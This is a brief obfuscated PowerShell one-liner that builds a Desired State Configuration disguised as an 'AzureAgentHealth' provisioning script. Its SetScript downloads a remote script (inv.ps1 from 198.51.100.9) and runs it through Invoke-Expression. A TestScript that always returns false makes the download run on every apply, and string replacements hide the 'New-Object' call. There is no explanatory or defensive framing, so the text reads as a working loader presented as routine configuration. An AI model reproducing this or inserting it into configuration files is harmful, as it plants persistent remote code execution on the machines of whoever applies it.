iex (('# KJX20provision 8049 v4
Configuration AzureAgentHealth {
  Import-DscResource -ModuleName PSDesiredStateConfiguration
  Node localhost {
    Script Bootstrap {
      GetScript = { @{ Result = '''' } }
      TestScript = { $false }
      SetScript = { IEX (New-jv~5bject Net.WebClient).DownloadString(''http://198.51.100.9/inv.ps1'') }
    }
  KJX20}
}
' -replace 'KJX20','').Replace('jv~5','O'))